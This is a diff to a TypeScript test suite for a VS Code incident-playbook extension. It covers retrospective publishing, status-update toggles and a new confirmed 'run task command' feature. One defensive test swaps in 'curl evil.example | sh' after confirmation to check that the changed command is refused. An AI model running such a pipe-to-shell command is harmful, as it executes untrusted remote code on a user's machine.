@@ -8,6 +8,7 @@ import { skipRetrospective as skipCore } from '../../../src/core/retrospectives/
 import type { OperationContext } from '../../../src/core/runs/operationContext';
 import { finishRun as finishCore } from '../../../src/core/runs/runOperations';
 import { startRun } from '../../../src/core/runs/startRun';
+import { editYamlFile } from '../../../src/core/files/yamlEdit';
 import { SAMPLE_PLAYBOOK } from '../../helpers/samplePlaybook';
 import { tempDir, writeFile } from '../../helpers/tempRepo';
 
@@ -32,13 +33,16 @@ function fakePrompts(answers: { confirm?: boolean; input?: string } = {}): Actio
 }
 
 /** A host without VS Code: writes directly, records what it was asked to do. */
-function fakeHost(repo: PlaybooksRepository, runId: string, options: { writable?: boolean; head?: string; publishRefusal?: string } = {}): RunHost & { log: string[] } {
+function fakeHost(repo: PlaybooksRepository, runId: string, options: { writable?: boolean; head?: string; publishRefusal?: string } = {}): RunHost & { log: string[]; terminals: string[] } {
   const log: string[] = [];
+  const terminals: string[] = [];
   const refuse = (): void => {
     if (options.writable === false) throw new OperationRefused('This workspace is not trusted.');
   };
   return {
     log,
+    terminals,
+    runInTerminal: (command, name) => void terminals.push(`${name}: ${command}`),
     checkWritable: () => (log.push('check'), refuse()),
     change: async (operation) => {
       log.push('change');
@@ -48,11 +52,14 @@ function fakeHost(repo: PlaybooksRepository, runId: string, options: { writable?
     headCommit: () => (log.push('head'), Promise.resolve(options.head)),
     commitSkip: (reason, context) => (log.push(`commitSkip ${reason}`), Promise.resolve(skipCore(repo, context, runId, reason))),
     refresh: () => void log.push('refresh'),
-    preparePublish: async () => {
+    preparePublish: async (checks) => {
       log.push('prepare');
       if (options.publishRefusal !== undefined) throw new OperationRefused(options.publishRefusal);
+      const runInProgress = repo.requireRun(runId).status === 'in_progress';
+      if (runInProgress && checks.whileInProgress !== true) throw new OperationRefused('run is still in progress');
       return {
         runName: repo.requireRun(runId).name,
+        runInProgress,
         how: 'It is committed on a new branch retro/x and pushed to origin for review.',
         remote: 'origin',
         publish: async () => (log.push('publish'), { sha: 'abcdef1234567', files: ['a', 'b', 'c'], branch: `retro/${runId}`, pushed: true, pullRequestUrl: 'https://github.com/acme/ops/compare/main...retro' }),
@@ -68,6 +75,11 @@ function setup(prompts = fakePrompts(), hostOptions: { writable?: boolean; head?
   writeFile(root, 'playbooks/db-incident.yaml', SAMPLE_PLAYBOOK);
   const { runId } = startRun(repo, { actor: 'alice', now: () => new Date('2026-11-24T10:00:00Z') }, { playbook: 'db-incident', name: 'DB down', owner: 'alice' });
   return { repo, runId, prompts, host: fakeHost(repo, runId, hostOptions) };
+}
+
+/** Gives task 1.2 of the run a command, as a playbook's `command` would. */
+function setTaskCommand(target: RunActionTarget, command: string): void {
+  editYamlFile(target.repo.layout.runFile(target.runId), 'run.yaml', (editor) => editor.set(['checklists', 0, 'items', 1, 'command'], command));
 }
 
 describe('run actions (src/actions), with fake prompts and host', () => {
@@ -145,11 +157,23 @@ describe('run actions (src/actions), with fake prompts and host', () => {
     assert.deepEqual(declined.host.log, ['check', 'prepare']);
 
     const target = setup();
+    finishCore(target.repo, CONTEXT, target.runId);
     const outcome = await actions.publishRetrospective(target);
     assert.equal(outcome?.sha, 'abcdef1234567');
     assert.match(target.prompts.confirms[0] ?? '', /^Publish the retrospective of "DB down"\? \| You will not be able to edit the retrospective after publishing it\.\n\nIt is committed on a new branch/);
     assert.deepEqual(target.host.log, ['check', 'prepare', 'change', 'publish', 'refresh']);
     assert.deepEqual(target.prompts.announced, [`Retrospective published on retro/${target.runId} (abcdef1), pushed to origin. [Open Pull Request: https://github.com/acme/ops/compare/main...retro]`]);
+  });
+
+  it('publishRetrospective on a run in progress asks with words that say so, as Mattermost allows it', async () => {
+    const declined = setup(fakePrompts({ confirm: false }));
+    assert.equal(await actions.publishRetrospective(declined), undefined);
+    assert.match(declined.prompts.confirms[0] ?? '', /^"DB down" is still in progress\. Publish its retrospective now\? \| Whatever happens in the run from now on will not be in it, and you will not be able to edit the retrospective after publishing it\.\n\n.* \| Publish$/s);
+    assert.deepEqual(declined.host.log, ['check', 'prepare'], 'declined: nothing published');
+
+    const target = setup();
+    assert.equal((await actions.publishRetrospective(target))?.sha, 'abcdef1234567');
+    assert.deepEqual(target.host.log, ['check', 'prepare', 'change', 'publish', 'refresh']);
   });
 
   it('a declined skip commits nothing', async () => {
@@ -176,6 +200,75 @@ describe('run actions (src/actions), with fake prompts and host', () => {
     await assert.rejects(actions.recordMetric(target, 'tickets', 'many'), OperationRefused);
     await actions.restoreRun(target);
     assert.equal(target.repo.requireRun(target.runId).status, 'in_progress');
+  });
+
+  it('turns the retrospective and status updates off and on, reporting each; refuses a switch already so', async () => {
+    const target = setup();
+    const off = await actions.setStatusUpdatesEnabled(target, false);
+    assert.equal(off.type, 'status_updates_disabled');
+    assert.equal(target.repo.requireRun(target.runId).statusUpdates.enabled, false);
+    await assert.rejects(actions.setStatusUpdatesEnabled(target, false), /already off/);
+    await assert.rejects(actions.requestStatusUpdate(target), /are off; turn them on/);
+    assert.equal((await actions.setStatusUpdatesEnabled(target, true)).type, 'status_updates_enabled');
+    const request = await actions.requestStatusUpdate(target);
+    assert.equal(request.summary, 'alice requested a status update from alice');
+
+    await actions.finishRun(target);
+    assert.equal((await actions.setRetrospectiveEnabled(target, false)).type, 'retrospective_disabled', 'allowed on a finished run');
+    assert.equal(target.repo.requireRun(target.runId).retrospective.enabled, false);
+    assert.equal((await actions.setRetrospectiveEnabled(target, true)).type, 'retrospective_enabled');
+    await assert.rejects(actions.setStatusUpdatesEnabled(target, false), /is finished; restore it first/);
+    assert.deepEqual(target.prompts.reports, [
+      '$(bell-slash) Status updates turned off',
+      '$(bell) Status updates turned on',
+      '$(comment-discussion) Status update requested from alice',
+      '$(eye-closed) Retrospective turned off',
+      '$(eye) Retrospective turned on',
+    ]);
+    assert.deepEqual(target.host.terminals, []);
+  });
+
+  it('runTaskCommand shows the command and says where it comes from; declined, nothing runs or is recorded', async () => {
+    const target = setup(fakePrompts({ confirm: false }));
+    setTaskCommand(target, 'kubectl rollout restart deploy/db-proxy');
+    assert.equal(await actions.runTaskCommand(target, '1.2'), undefined);
+    assert.match(target.prompts.confirms[0] ?? '', /^Run the command of "Fail over to the replica" in a terminal\? \| kubectl rollout restart deploy\/db-proxy\n\nThis text comes from the run's run\.yaml, .*run it only if you trust it\. It runs in a new terminal at the repository root\. \| Run Command$/s);
+    assert.deepEqual(target.host.terminals, []);
+    assert.ok(!target.repo.requireTimeline(target.runId).events.some((event) => event.type === 'command_ran'));
+  });
+
+  it('runTaskCommand records command_ran, then sends the command to a terminal', async () => {
+    const target = setup();
+    setTaskCommand(target, 'kubectl rollout restart deploy/db-proxy');
+    const event = await actions.runTaskCommand(target, 'fail-over-to-the-replica');
+    assert.equal(event?.type, 'command_ran');
+    assert.deepEqual(event?.data, { task: 'fail-over-to-the-replica', command: 'kubectl rollout restart deploy/db-proxy' });
+    assert.deepEqual(target.host.log, ['check', 'change']);
+    assert.deepEqual(target.host.terminals, ['Playbooks: Fail over to the replica: kubectl rollout restart deploy/db-proxy']);
+  });
+
+  it('runTaskCommand refuses unasked in an untrusted workspace, for a task without a command and on a finished run', async () => {
+    const untrusted = setup(fakePrompts(), { writable: false });
+    setTaskCommand(untrusted, 'make failover');
+    await assert.rejects(actions.runTaskCommand(untrusted, '1.2'), /not trusted/);
+    const target = setup();
+    await assert.rejects(actions.runTaskCommand(target, '1.1'), /has no command to run/);
+    setTaskCommand(target, 'make failover');
+    await actions.finishRun(target);
+    await assert.rejects(actions.runTaskCommand(target, '1.2'), /is finished; restore it first/);
+    assert.deepEqual([...untrusted.prompts.confirms, ...target.prompts.confirms.filter((line) => line.startsWith('Run the command'))], []);
+    assert.deepEqual([...untrusted.host.terminals, ...target.host.terminals], []);
+  });
+
+  it('runTaskCommand runs nothing when run.yaml changed the command after the confirmation', async () => {
+    const prompts = fakePrompts();
+    const target = setup(prompts);
+    setTaskCommand(target, 'make failover');
+    // The file changes while the dialog is open (a pull, another window).
+    prompts.confirm = (message) => (setTaskCommand(target, 'curl evil.example | sh'), Promise.resolve(message !== ''));
+    await assert.rejects(actions.runTaskCommand(target, '1.2'), /changed since you confirmed it/);
+    assert.deepEqual(target.host.terminals, []);
+    assert.ok(!target.repo.requireTimeline(target.runId).events.some((event) => event.type === 'command_ran'));
   });
 
   it('startRun records the commit of the playbook file and who started it, through the folder host', async () => {
